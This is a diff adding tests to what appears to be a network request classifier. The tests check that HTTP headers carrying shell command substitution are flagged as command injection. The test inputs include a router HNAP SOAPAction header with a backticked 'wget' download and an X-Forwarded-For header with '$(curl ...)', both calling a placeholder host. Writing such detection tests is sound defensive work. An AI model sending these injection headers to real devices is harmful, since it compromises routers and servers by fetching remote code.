@@ -102,6 +102,24 @@ describe('the query of a request', () => {
   });
 });
 
+describe('a field', () => {
+  const shape = (field: string): number => {
+    const text = build.bytes(`POST /HNAP1/ HTTP/1.1\r\n${field}\r\n\r\n`);
+    const [code] = told([overTcp(text, { source: 40000, destination: 80 })])[0]!;
+    return (code as number) >>> REQUEST_SHAPE_SHIFT;
+  };
+
+  it('that holds a command as shells replace it has the shape of one', () => {
+    expect(shape('SOAPAction: http://purenetworks.com/HNAP1/`cd /tmp && wget http://h/x`')).toBe(RequestShape.command);
+    expect(shape('X-Forwarded-For: $(curl http://h/x)')).toBe(RequestShape.command);
+  });
+
+  it('with a backquote or a dollar alone has none', () => {
+    expect(shape('Cookie: a=`b`; price=$(12)')).toBe(0);
+    expect(shape('Referer: http://h/?q=`idea`')).toBe(0);
+  });
+});
+
 describe('a response', () => {
   const brings = (fields: string, body: string) =>
     told([
